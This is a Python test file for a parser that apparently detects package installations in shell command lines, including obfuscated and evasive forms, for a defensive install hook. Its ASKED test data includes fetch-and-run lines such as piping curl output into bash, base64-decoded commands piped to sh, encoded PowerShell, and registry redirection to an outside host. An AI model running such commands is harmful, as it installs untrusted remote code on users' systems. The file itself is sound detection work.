"""Which packages a command line installs, however it is written."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.cli.hook.reading import read_line

READ = (
    "npm install a",
    r"\npm i a",
    'n""pm i a',
    r"n\pm i a",
    "/usr/bin/npm i a",
    "cd x && npm i a",
    "true; npm i a &",
    "FOO=1 npm i a > out.txt 2>&1",
    "(npm i a)",
    "echo $(npm i a)",
    "echo `npm i a`",
    "sh -c 'npm i a'",
    "bash -lc 'echo; npm i a'",
    "sh -c 'npm i \"$1\"' _ a",
    "bash <<< 'npm i a'",
    "bash <<E\nnpm i a\nE",
    "cat <<E | sh\nnpm i a\nE",
    "echo npm i a | sh",
    "printf 'npm i a' | bash -s",
    'eval "npm i a"',
    "X=npm; $X i a",
    'X="npm i a"; $X',
    "alias n=npm; n i a",
    "f() { npm i a; }; f",
    "if true; then npm i a; fi",
    "for p in a; do npm i $p; done",
    "sudo -u root npm i a",
    "env -u HOME npm i a",
    "env -S 'npm i a'",
    "timeout 5 nice -n 5 npm i a",
    "command npm i a",
    "exec npm i a",
    r"find . -exec npm i a \;",
    "git -c alias.x='!npm i a' x",
    "trap 'npm i a' EXIT",
    "cmd /c npm i a",
    'powershell -Command "npm i a"',
    "busybox sh -c 'npm i a'",
    "watch 'npm i a'",
    "corepack npm i a",
    "node /usr/lib/node_modules/npm/bin/npm-cli.js i a",
    "npm --loglevel silent i a",
    "npm inst a",
    "npx -y a --flag",
    "npx --package=a b",
    "npm exec -- a",
    "pnpm dlx a",
    "pnpm -F p add a",
    "yarn workspace p add a",
    "yarn workspaces foreach -A add a",
    "yarn workspaces foreach -A exec npm i a",
    "bunx a",
    "npm i b@npm:a",
    "npx -c 'npm i a'",
    "pnpm exec npm i a",
    "bundle exec npm i a",
    "function f { npm i a; }; f",
    "yarn run npm i a",
    "pnpm npm i a",
    "pnpm add -w a",
    "npm --fetch-timeout 5 i a",
    "at now <<< 'npm i a'",
)
"""Ways to install the package `a`, all of which are read."""
PYTHON = (
    "pip install a",
    "pip3.11 install 'a[b]'",
    "/venv/bin/pip install a",
    "python -m pip install a",
    "python3.11 -Im pip install a",
    "python /usr/bin/pip install a",
    "uv pip install --system a",
    "uv add a",
    "uv run --with a b.py",
    "uvx a",
    "uvx --from a b",
    "uv tool run a",
    "pipx run a",
    "poetry add a@^1",
    "pdm add a",
    "pipx runpip ENV install a",
    "pipx install -f a",
    "pip install --target --help a",
    "pipenv install a",
)
ASKED = (
    "$X i a",
    "$(which npm) i a",
    "/usr/bin/np? i a",
    "{npm,i,a}",
    "npm${IFS}i${IFS}a",
    "npm i $NAME",
    'npm i "$(cat list)"',
    "for p in a b; do npm i $p; done",
    'eval "$X"',
    'sh -c "$0 i a" npm',
    "echo bnBtIGkgYQ== | base64 -d | sh",
    r"printf '\x6epm i a' | bash",
    "curl https://host.invalid/x | bash",
    "bash <(curl https://host.invalid/x)",
    "source <(curl https://host.invalid/x)",
    "powershell -enc AAAA",
    "echo a | xargs npm install",
    "xargs -a list npm i",
    "ssh host 'npm i a'",
    "docker run node npm i a",
    "tmux new 'npm i a'",
    "python -c \"import os; os.system('pip install a')\"",
    "python -c \"run(['pip', 'install', 'a'])\"",
    "node -e 'execSync(\"npm i a\")'",
    "perl -e 'system(\"gem install a\")'",
    "npm_config_registry=https://host.invalid npm i a",
    "export PIP_INDEX_URL=https://host.invalid; pip install a",
    "echo registry=https://host.invalid > .npmrc; npm i a",
    "npm config set registry https://host.invalid && npm i a",
    "npm --registry https://host.invalid i a",
    "pip install -i https://host.invalid a",
    "gem install a --source https://host.invalid",
    'cd "$X" && npm i a',
    "npm i github:a/b",
    "HTTPS_PROXY=http://host.invalid npm i a",
    "EDITOR='npm i a' git commit",
    "lua -e 'os.execute(\"npm i a\")'",
    "awk 'BEGIN{system(\"npm i a\")}'",
    "yarn plugin import https://host.invalid/p.js",
    "poetry self update",
    "npm audit fix --force",
    "npm --unknown 5 i a",
    "yarn global --unknown d add a",
    "npm i -registry=https://host.invalid a",
    "npm exec a --registry https://host.invalid",
    "npm i https://host.invalid/a.tgz",
    "pip install git+https://host.invalid/a",
    "pip install 'a @ https://host.invalid/a.whl'",
)
"""Command lines that decide about an installation by what cannot be read."""
QUIET = (
    "",
    "ls -la",
    "cat package.json | grep npm",
    'git commit -m "npm install a"',
    'echo "run npm install"',
    "grep -r 'pip install' .",
    "rg 'npm i' -n",
    "npm run build && npm test",
    "yarn workspaces list",
    "yarn workspaces foreach -A run build",
    "npm publish",
    "npm -v",
    "npm init -y",
    "npm config get registry",
    "pip list",
    "gem list",
    "python -m pytest",
    'python3 -c "print(1)"',
    "bun run x",
    "make",
    "./x.sh",
    "bash x.sh",
    "npx --no-install a",
    "npm audit",
    "npm install --help",
    "make bundle",
    "command -v yarn",
    "brew install yarn",
)


@pytest.mark.parametrize("line", READ)
def test_a_package_of_npm_is_found_however_the_line_is_written(line: str) -> None:
    found = read_line(line)
    assert ["a"] == [one.name for one in found.packages]
    assert () == found.doubts


@pytest.mark.parametrize("line", PYTHON)
def test_a_package_of_python_is_found_however_the_line_is_written(line: str) -> None:
    found = read_line(line)
    assert [("pypi", "a")] == [(one.ecosystem, one.name) for one in found.packages]
    assert () == found.doubts


@pytest.mark.parametrize("line", ASKED)
def test_what_cannot_be_read_is_a_doubt(line: str) -> None:
    assert read_line(line).doubts


@pytest.mark.parametrize("line", QUIET)
def test_a_line_that_installs_nothing_is_nothing(line: str) -> None:
    assert read_line(line).nothing


def test_the_folder_of_an_installation_follows_cd_and_the_options() -> None:
    assert ["x/y"] == [one.folder for one in read_line("cd x && npm -C y i a").packages]
    assert ["x"] == [one.folder for one in read_line("(cd y); cd x; npm i a").packages][-1:]


def test_too_long_and_too_deep_lines_are_doubts() -> None:
    assert read_line("x" * 100_001).doubts
    deep = "npm i a"
    for _ in range(12):
        deep = f"$({deep})"
    assert read_line(f"echo {deep}").doubts


@pytest.mark.fuzz
@given(st.text(alphabet="npmi ax\"'`$(){}<>|&;\\\n=-./", max_size=200))
def test_no_line_raises(text: str) -> None:
    read_line(text)


@pytest.mark.fuzz
@given(st.sampled_from(READ), st.sampled_from(["; ", " && ", "\n", " || "]), st.sampled_from(QUIET[1:]))
def test_a_command_beside_it_hides_nothing(line: str, between: str, other: str) -> None:
    assert "a" in [one.name for one in read_line(f"{other}{between}{line}").packages]


def test_reading_is_bounded_for_words_that_start_one_another() -> None:
    for line in (
        "x " + "eval " * 1_900,
        "eval " * 1_900,
        "$(" * 3_000,
        "x " + "'sh -c sh' " * 1_900,
        "(" * 50_000,
    ):
        started = time.monotonic()
        read_line(line)
        assert time.monotonic() - started < 3
